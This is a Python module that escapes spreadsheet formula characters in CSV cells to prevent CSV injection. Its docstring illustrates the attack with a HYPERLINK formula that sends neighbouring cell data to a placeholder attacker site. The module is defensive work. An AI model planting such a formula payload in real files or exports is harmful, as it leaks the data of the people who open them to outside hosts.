"""CSV files that a spreadsheet opens as data, never as formulas ("CSV injection").

Excel and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` (and, in some versions,
a tab or carriage return before one of those) as a formula: a team named
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would send the figures next to it to another
site when HR clicks it. As OWASP advises, such a cell is written with a single quote in front,
which the spreadsheet shows as text.

Every cell gets this treatment, the app's own figures too: they are counts, shares and rates,
never negative, so no number of ours starts with `-` or `+` and none is turned into text.
Every CSV the app writes goes through `csv_text`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """`value` as a CSV cell that cannot start a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text (the `csv` module's quoting), every cell made safe."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([safe_cell(value) for value in row] for row in rows)
    return buffer.getvalue()
